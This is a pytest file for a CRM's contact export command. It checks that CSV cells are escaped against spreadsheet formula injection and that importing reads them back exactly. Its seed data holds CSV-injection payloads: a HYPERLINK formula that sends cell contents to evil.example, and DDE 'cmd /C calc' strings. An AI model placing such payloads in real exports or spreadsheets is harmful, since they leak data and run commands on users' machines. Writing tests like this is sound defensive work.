"""`trubka export contacts` writes spreadsheet-safe cells and the importer reads them
back exactly (issue 17, item 8): any agent can name a contact `=HYPERLINK(…)`."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from crm.access import Actor
from crm.contacts import ContactService
from crm.csv_export import export_contacts
from crm.csv_import import ContactImporter
from crm.database import Database
from crm.schemas import ContactCreate

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by hand",
    "'plain apostrophe",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


async def _seed(db: Database) -> None:
    contacts = ContactService(db, region="RU")
    system = Actor.system()
    for n, name in enumerate(NASTY):
        await contacts.create(
            ContactCreate(
                name=name,
                phones=[f"+7495000{n:04d}"],
                tags=["=tag" if n == 0 else "ok"],
                custom={"note": "=1+1" if n == 0 else "-5 days", "kind": "@home"},
            ),
            system,
        )
    await contacts.create(ContactCreate(name="Иван", phones=["+74950009999"]), system)


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, delimiter=";"))


async def _round_trip(first: Path, tmp_path: Path, **options: bool) -> bytes:
    other = Database(f"sqlite+aiosqlite:///{tmp_path / 'copy.db'}")
    await other.upgrade()
    try:
        report = await ContactImporter(other).run(first)
        assert report.rejected == []
        second = tmp_path / "second.csv"
        await export_contacts(other, second, **options)
        async with other.session() as session:
            from sqlalchemy import select

            from crm.models import Contact

            names = set((await session.scalars(select(Contact.name))).all())
        assert names == {*NASTY, "Иван"}  # exactly as they were typed
    finally:
        await other.dispose()
    return second.read_bytes()


async def test_export_escapes_formulas_and_the_import_reads_them_back(
    db: Database, tmp_path: Path
) -> None:
    await _seed(db)
    first = tmp_path / "first.csv"
    assert await export_contacts(db, first) == len(NASTY) + 1
    rows = _cells(first)[1:]
    for row in rows:
        for n, cell in enumerate(row):
            if n == 1:  # the phone column: E.164 numbers are kept
                assert cell.startswith("+7495")
                continue
            assert not cell.startswith(FORMULA_START), (n, cell)
    assert rows[0][0] == "'" + NASTY[0]
    assert rows[4][0] == "''=already quoted by hand"
    assert rows[5][0] == "'plain apostrophe"  # not a formula: as it is
    assert await _round_trip(first, tmp_path) == first.read_bytes()


async def test_the_raw_export_opts_out_and_still_round_trips(db: Database, tmp_path: Path) -> None:
    await _seed(db)
    first = tmp_path / "raw.csv"
    await export_contacts(db, first, escape_formulas=False)
    rows = _cells(first)[1:]
    assert rows[0][0] == NASTY[0]  # written as it is, for programs rather than people
    assert rows[4][0] == "''=already quoted by hand"  # still readable back exactly
    assert await _round_trip(first, tmp_path, escape_formulas=False) == first.read_bytes()


def test_the_command_has_the_opt_out() -> None:
    from trubka.cli.crm import export_contacts as command

    result = CliRunner().invoke(command, ["--help"])
    assert "--no-escape-formulas" in result.output


@pytest.mark.parametrize("text", ["=x", "'=x", "''+y", "plain", "'quote", "+74951234567"])
def test_escaping_is_undone_exactly(text: str) -> None:
    from crm.csv_cells import escape_cell, unescape_cell

    for formulas in (True, False):
        assert unescape_cell(escape_cell(text, formulas=formulas)) == text
